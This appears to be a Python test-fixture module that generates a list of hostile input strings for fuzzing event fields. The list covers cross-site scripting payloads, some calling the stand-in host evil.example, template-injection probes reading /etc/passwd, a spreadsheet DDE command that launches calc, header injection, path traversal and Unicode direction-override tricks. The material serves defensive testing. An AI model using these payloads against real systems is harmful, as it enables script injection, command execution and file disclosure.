"""Texts an attacker would put into a field of an event: markup, scripts, formulas, characters that turn text about."""

from __future__ import annotations

from itertools import islice, product

_MARKUP = (
    "<script>alert(1)</script>",
    '"><script src=//evil.example/x.js></script>',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "{{config.__class__}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
)
_FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    '=HYPERLINK("//evil.example")',
)
_TURNING = (
    "\u202ecod.exe",
    "a\u200bb",
    "\u2066x\u2069",
    "\x1b[31mred",
    "a\x00b",
    "\ufeffbom",
    "\x9b31m",
    "line\nbreak",
)
_HEADERS = (
    "x\r\nSet-Cookie: a=b",
    "x\r\nContent-Type: text/html",
    "../../etc/passwd",
    "C:\\..\\..\\win.ini",
    "CN=a\\2cb,DC=x",
)
_FRAMES = ("{}", "FAB\\{}", "{}@fab.example", "CN={},OU=Staff,DC=fab,DC=example", "a {} b", "{0}{0}")

PAYLOADS: tuple[str, ...] = tuple(
    islice(
        dict.fromkeys(
            frame.replace("{0}", text).replace("{}", text)
            for frame, text in product(_FRAMES, (*_MARKUP, *_FORMULAS, *_TURNING, *_HEADERS))
        ),
        300,
    )
)
